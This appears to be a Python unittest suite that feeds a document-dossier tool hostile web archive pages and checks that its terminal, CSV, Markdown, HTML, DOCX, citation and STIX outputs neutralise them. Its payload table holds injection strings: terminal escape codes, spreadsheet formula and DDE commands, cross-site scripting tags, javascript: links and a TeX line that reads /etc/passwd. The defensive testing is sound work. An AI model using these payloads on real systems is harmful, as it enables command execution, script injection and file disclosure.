#!/usr/bin/env python3
"""Pages that put control codes, formulas, markup and links into every field that is printed: against every renderer
and every export.

    injection_test.py --dossier build/dossier

Whatever a page says, a terminal is not acted on, a spreadsheet computes nothing, a document links to the web only and
stays well formed, and no password is shown. Standard library only.
"""
import argparse
import csv
import html
import html.parser
import io
import json
import os
import pathlib
import re
import subprocess
import sys
import tempfile
import unittest
import xml.etree.ElementTree
import zipfile

GIVEN = argparse.Namespace()

# What stands in title, author, publisher and sentence.
PAYLOADS = {
    "escape": "\x1b]0;owned\x07\x1b[31mred\x1b[2J",
    "c1": "\u009b31mred\u009d0;owned\u009c",
    "bidi": "\u202edesrever\u2066isolated\u2069",
    "lines": "one\r\ntwo\nTY  - NEWS\nER  - ",
    "formula": "=HYPERLINK(\"http://h.example/?\"&A1,\"x\")",
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(2)>\"'><svg/onload=alert(3)>",
    "markdown": "[click](javascript:alert(1)) ![i](http://h.example/x.png) `c` **b** | pipe [^1]: fake",
    "tex": "\\input{/etc/passwd} } @misc{fake, title={x}} %",
    "tags": "seen\U000e0068\U000e0069\U000e0064\U000e0064\U000e0065\U000e006e",
    "nonchar": "a\uffff\ufffeb\ufdd2c\x0b\x0c",
    "long": "L" * 50000,
}
ADDRESSES = [
    "http://h.example/\x1b[31mred", "http://h.example/a)](javascript:alert(1))", "http://h.example/\"><script>alert(1)</script>",
    "http://h.example/\u202egpj.exe", "http://somebody:secret@h.example/private", "http://h.example/x}} @misc{y",
    "http://h.example/page#part", "http://h.example/" + "u" * 90000,
]
ACTING = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ufffe\uffff\ufdd0-\ufdef\U000e0000-\U000e007f]")


def page(name, payload):
    text = html.escape(payload)
    return f"""<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>{text} Title {name}</title>
<meta name="author" content="{text} Author"><meta property="og:site_name" content="{text} Pub">
<meta property="og:title" content="{text} Title {name}"><meta property="og:type" content="article">
<meta property="article:published_time" content="2019-05-16T10:00:00Z"></head><body><article><h1>{text} Title {name}</h1>
<p>WASHINGTON - The Commerce Department on Thursday barred American companies from selling parts to ZTE, in case {name}
of {text} as the order says.</p>
<p>The Federal Communications Commission warned that ZTE poses a threat to national security, the {name} statement said,
and it named {text} in the same breath.</p></article></body></html>""".encode()


def record(url, body):
    block = b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + body
    head = (f"WARC/1.1\r\nWARC-Type: response\r\nWARC-Record-ID: <urn:uuid:00000000-0000-4000-8000-{abs(hash(url)) % 10**12:012}>\r\n"
            f"WARC-Date: 2019-05-17T00:00:00Z\r\nWARC-Target-URI: ").encode() + url.encode() + (
                f"\r\nContent-Type: application/http; msgtype=response\r\nContent-Length: {len(block)}\r\n\r\n").encode()
    return head + block + b"\r\n\r\n"


class Injection(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.temporary = tempfile.TemporaryDirectory()
        cls.folder = pathlib.Path(cls.temporary.name)
        with open(cls.folder / "hostile.warc", "wb") as warc:
            for name, payload in PAYLOADS.items():
                warc.write(record(f"http://{name}.example/{name}", page(name, payload)))
            for number, url in enumerate(ADDRESSES):
                warc.write(record(url, page(f"address{number}", "ordinary")))
        assert cls.run_dossier("import", cls.folder / "hostile.warc").returncode in (0, 5)
        assert cls.run_dossier("index").returncode == 0
        rows = json.loads(cls.run_dossier("--format", "json", "evidence", "zte", "--limit", "200").stdout)["rows"]
        cls.rows, cls.ids = rows, [row["id"] for row in rows]
        assert len(cls.ids) >= len(PAYLOADS), len(cls.ids)
        assert cls.run_dossier("basket", "add", "all", *cls.ids).returncode == 0

    @classmethod
    def tearDownClass(cls):
        cls.temporary.cleanup()

    @classmethod
    def run_dossier(cls, *arguments):
        return subprocess.run([GIVEN.dossier, "-C", cls.folder / "corpus", *arguments], capture_output=True,
                              env=dict(os.environ, NO_COLOR="1", TZ="UTC", COLUMNS="100"))

    def output(self, *arguments):
        done = self.run_dossier(*arguments)
        self.assertIn(done.returncode, (0, 1), (arguments, done.stderr))
        text = (done.stdout + done.stderr).decode()  # strict: every sink gets UTF-8
        found = ACTING.search(text)
        self.assertIsNone(found, f"{arguments}: {found and ascii(text[max(0, found.start() - 40):found.end() + 10])}")
        self.assertNotIn("secret", text, arguments)
        return text

    def test_nothing_acts_on_a_terminal(self):
        for verb in (["evidence", "zte"], ["search", "zte"], ["timeline", "zte"], ["vendors"], ["agencies"],
                     ["vendors", "--learned", "--all"], ["facets", "zte"], ["stat"], ["basket", "list", "all"],
                     ["show", self.ids[0]], ["verify"]):
            text = self.output(*verb)
            self.assertLess(max(map(len, text.split("\n"))), 60000, verb)
            for form in ("json", "jsonl", "csv", "md"):
                done = self.run_dossier("--format", form, *verb)
                if done.returncode == 2:
                    continue  # not a form of this verb
                self.output("--format", form, *verb)
        documents = {row["document"]["id"] for row in self.rows}
        for identity in [*self.ids, *documents]:
            self.output("show", identity)
        for identity in documents:
            for verb in ("show", "history"):
                self.output(verb, identity)
                self.output("--format", "json", verb, identity)

    def test_no_line_for_people_is_endless(self):
        """Of what a page says of itself some thousand characters are shown; a quotation is shown whole."""
        own = next(row["document"]["id"] for row in self.rows if "uuuu" in row["document"]["url"])
        for verb in (["evidence", "zte", "--limit", "200"], ["search", "zte"], ["timeline", "zte"], ["show", own], ["history", own]):
            for form in ("text", "md"):
                done = self.run_dossier("--format", form, *verb)
                for line in done.stdout.decode().split("\n"):
                    run = max(re.findall(r"u{100,}|L{100,}", line), key=len, default="")
                    self.assertLess(len(run), 4100 if "u" in run else 50001, (verb, form))
                    quoted = "case long" in line or "long statement" in line or not line.strip(" L")
                    if not quoted:
                        self.assertLess(len(line), 25000, (verb, form, line[:80]))
        for style in ("chicago", "apa", "mla", "bluebook", "iso690", "icd206"):
            self.assertNotIn("u" * 2100, self.output("cite", "--style", style, *self.ids), style)

    def test_json_holds_the_same_text(self):
        rows = json.loads(self.output("--format", "json", "evidence", "zte", "--limit", "200"))["rows"]
        said = " ".join(row["quotation"] for row in rows)
        for name in ("c1", "bidi", "formula", "markup", "tex", "tags"):
            self.assertIn(" ".join(PAYLOADS[name].split()), said)

    def test_a_spreadsheet_computes_nothing(self):
        for verb in (["evidence", "zte", "--limit", "200"], ["search", "zte"], ["timeline", "zte"], ["vendors"]):
            for row in csv.reader(io.StringIO(self.output("--format", "csv", *verb))):
                for cell in row:
                    self.assertFalse(cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[+-]?[\d.]+", cell), cell[:60])

    def test_markdown_links_to_the_web_only(self):
        texts = [self.output("--format", "md", *verb) for verb in (["evidence", "zte", "--limit", "200"], ["search", "zte"])]
        brief = self.folder / "brief.md"
        self.output("brief", "--basket", "all", "--output", brief)
        texts.append(brief.read_text())
        for text in texts:
            self.assertIsNone(ACTING.search(text))
            self.assertNotIn("secret", text)
            for target in re.findall(r"(?<!\\)\]\(([^)]*)\)", text):
                self.assertRegex(target, r"^https?://[^\s<>\[\]]*$")
            self.assertNotRegex(text, r"(?<!\\)<(script|img|svg|b)\b")

    def test_documents_are_well_formed(self):
        page_file, document = self.folder / "brief.html", self.folder / "brief.docx"
        self.output("brief", "--basket", "all", "--output", page_file)
        self.output("brief", "--basket", "all", "--output", document)
        text = page_file.read_text()
        self.assertIsNone(ACTING.search(text))
        self.assertNotIn("secret", text)
        links, elements = [], []

        class Reader(html.parser.HTMLParser):
            def handle_starttag(self, tag, attributes):
                elements.append(tag)
                links.extend(value for key, value in attributes if key in ("href", "src", "cite"))
                assert not any(key.startswith("on") for key, _ in attributes)

        Reader().feed(text)
        self.assertFalse({"script", "img", "iframe"} & set(elements))
        for link in links:
            self.assertRegex(link, r"^(https?://|#|$)")
            self.assertLessEqual(link.count("#"), 1)
        with zipfile.ZipFile(document) as parts:
            for name in parts.namelist():
                if not name.endswith((".xml", ".rels")):
                    continue
                xml_text = parts.read(name).decode()
                xml.etree.ElementTree.fromstring(xml_text)
                self.assertIsNone(ACTING.search(xml_text), name)
                self.assertNotIn("secret", xml_text)
                for target in re.findall(r'Target="([^"]*)" TargetMode="External"', xml_text):
                    self.assertRegex(target, r"^https?://")

    def test_references_are_entries_of_their_own(self):
        for style in ("bibtex", "biblatex"):
            text = self.output("cite", "--style", style, *self.ids)
            self.assertEqual(len(re.findall(r"^@", text, re.M)), len(self.ids), style)
            depth = 0
            for at, c in enumerate(text):
                if c in "{}" and text[at - 1] != "\\":
                    depth += 1 if c == "{" else -1
                    self.assertGreaterEqual(depth, 0)
            self.assertEqual(depth, 0, style)
        text = self.output("cite", "--style", "ris", *self.ids)
        for line in filter(None, text.splitlines()):
            self.assertRegex(line, r"^[A-Z][A-Z0-9]  - ")
        self.assertEqual(len(re.findall(r"^TY  - ", text, re.M)), len(self.ids))
        self.assertEqual(len(json.loads(self.output("cite", "--style", "csl-json", *self.ids))), len(self.ids))
        for style in ("chicago", "apa", "mla", "bluebook", "iso690", "icd206"):
            self.output("cite", "--style", style, *self.ids)

    def test_exports_are_read_back(self):
        for form in ("stix", "ftm"):
            path = self.folder / (form + ".json")
            self.output("export", form, path, "--basket", "all")
            text = path.read_text()
            self.assertNotIn("secret", text)
            for part in ([text] if form == "stix" else text.splitlines()):
                json.loads(part)
        svg = self.folder / "timeline.svg"
        self.output("timeline", "zte", "--svg", svg)
        xml.etree.ElementTree.fromstring(svg.read_text())


if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("--dossier", required=True, type=os.path.abspath)
    GIVEN, rest = parser.parse_known_args()
    unittest.main(argv=[sys.argv[0], *rest])
